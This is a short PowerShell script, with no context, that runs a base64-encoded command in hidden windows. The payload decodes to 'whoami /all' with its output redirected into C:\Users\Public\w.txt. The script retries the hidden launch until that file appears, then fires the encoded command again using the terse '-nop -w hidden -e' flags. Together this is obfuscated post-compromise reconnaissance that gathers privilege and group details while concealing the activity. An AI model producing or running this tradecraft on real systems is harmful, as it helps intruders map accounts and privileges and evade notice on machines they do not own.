$recon = 'dwBoAG8AYQBtAGkAIAAvAGEAbABsACAAPgAgAEMAOgBcAFUAcwBlAHIAcwBcAFAAdQBiAGwAaQBjAFwAdwAuAHQAeAB0AA=='
$psArgs = @('-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', $recon)

foreach ($i in 1..3) {
    $p = Start-Process -FilePath 'powershell.exe' -ArgumentList $psArgs -PassThru -WindowStyle Hidden
    $p.WaitForExit(30000) | Out-Null
    if (Test-Path 'C:\Users\Public\w.txt') { break }
    Start-Sleep -Seconds (5 * $i)
}

Start-Process powershell -ArgumentList '-nop -w hidden -e dwBoAG8AYQBtAGkAIAAvAGEAbABsACAAPgAgAEMAOgBcAFUAcwBlAHIAcwBcAFAAdQBiAGwAaQBjAFwAdwAuAHQAeAB0AA=='
